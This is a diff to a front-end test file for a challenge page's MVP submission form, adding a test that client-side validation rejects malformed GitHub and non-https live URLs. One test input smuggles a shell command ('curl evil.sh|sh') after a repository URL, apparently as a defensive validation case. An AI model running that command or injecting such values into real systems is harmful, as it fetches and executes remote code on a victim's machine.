@@ -139,13 +139,29 @@ describe('ChallengePage', () => {
   it('alerts the server message when the submission is refused', async () => {
     const alert = alertSpy();
     serve((url) =>
-      url.endsWith('/submit') ? Response.json({ error: 'GitHub URL must be a link to a repository' }, { status: 400 }) : Response.json(challenge(joined(45))),
+      url.endsWith('/submit') ? Response.json({ error: 'You can submit your MVP 30 minutes after joining.' }, { status: 400 }) : Response.json(challenge(joined(45))),
     );
     renderPage();
     await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
-    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://example.com');
+    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp');
     await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
-    await waitFor(() => expect(alert).toHaveBeenCalledWith('GitHub URL must be a link to a repository'));
+    await waitFor(() => expect(alert).toHaveBeenCalledWith('You can submit your MVP 30 minutes after joining.'));
+  });
+
+  it('refuses a link that is not a plain repository address with the API message, and sends nothing', async () => {
+    const alert = alertSpy();
+    const calls = serve(() => Response.json(challenge(joined(45))));
+    renderPage();
+    await userEvent.click(await screen.findByRole('button', { name: 'Submit MVP' }));
+    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp;curl evil.sh|sh');
+    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
+    expect(alert).toHaveBeenCalledWith('GitHub URL must be a link to a repository: https://github.com/owner/repo');
+    await userEvent.clear(screen.getByLabelText('GitHub URL'));
+    await userEvent.type(screen.getByLabelText('GitHub URL'), 'https://github.com/ada/mvp');
+    await userEvent.type(screen.getByLabelText('Live URL'), 'http://mvp.example.com');
+    await userEvent.click(screen.getByRole('button', { name: 'Submit MVP' }));
+    expect(alert).toHaveBeenLastCalledWith('Live URL must be a web address starting with https://');
+    expect(calls.some((call) => call.includes('/submit'))).toBe(false);
   });
 
   it('shows an ended challenge with the submitted MVP', async () => {
